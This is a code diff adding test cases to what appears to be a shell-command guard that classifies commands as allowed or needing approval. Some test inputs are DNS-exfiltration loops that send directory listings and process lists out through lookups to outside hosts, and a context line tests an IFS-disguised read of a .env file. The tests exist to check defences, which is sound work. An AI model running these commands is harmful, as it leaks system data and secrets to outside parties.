@@ -271,6 +271,19 @@ def test_an_array_the_line_assigns_is_its_elements(command: str, decision: str) 
     assert pack(command) == decision, command
 
 
+@inprocess
+@pytest.mark.parametrize(("command", "decision"), [
+    ("for i in $(ls /) ; do host \"$i.3a43c7e4e57a8d0e2057.d.zhack.ca\"; done", "ask"),
+    ("for l in `ps aux`; do dig ${l}.x.example; done", "ask"),
+    ("for u in $(whoami); do host \"$u.example.com\"; done", "allow"),     # the user's name
+    ("for h in web db cache; do host \"$h.internal.example\"; done", "allow"),
+    ("for h in $(cat hosts.txt); do dig +short $h; done", "allow"),       # the names themselves, looked up
+    ("for i in $(seq 1 3); do echo \"$i.txt\"; done", "allow"),
+])
+def test_a_loop_over_a_commands_output_in_names_looked_up(command: str, decision: str) -> None:
+    assert decide("remote_code", command) == decision, command
+
+
 def test_an_ifs_disguise_through_the_installed_executable(project: Project) -> None:
     assert forge_hook(project, "guard", "test", "secret_files", "--", "cat${IFS}.env").exit_status == 1
     assert forge_hook(project, "guard", "test", "secret_files", "--", "cat${IFS}README.md").exit_status == 0
